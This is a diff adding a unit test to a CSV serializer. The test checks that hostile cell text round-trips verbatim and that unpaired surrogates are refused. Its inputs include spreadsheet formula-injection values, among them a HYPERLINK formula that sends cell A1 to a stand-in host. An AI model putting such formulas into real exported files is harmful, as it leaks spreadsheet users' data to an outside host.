@@ -21,4 +21,21 @@ describe('CSV', () => {
   it('ends every record, the last included, with CRLF', () => {
     expect(toCsv(['a', 'b'], [[1, 'x,y']])).toBe('a,b\r\n1,"x,y"\r\n');
   });
+
+  it('keeps every cell verbatim: hostile text round-trips, an unpaired surrogate is refused', () => {
+    for (const text of [
+      '=HYPERLINK("http://x/?"&A1,"x")',
+      '+cmd',
+      '@SUM(1)',
+      '\t=1',
+      'a\r\nb',
+      '\u200c',
+    ]) {
+      const field = csvField(text);
+      const back = field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field;
+      expect(back).toBe(text);
+    }
+    expect(() => csvField('a\ud800b')).toThrow(/unpaired surrogate/);
+    expect(csvField('a\ud83d\ude00b')).toBe('a\ud83d\ude00b'); // a pair is a character
+  });
 });
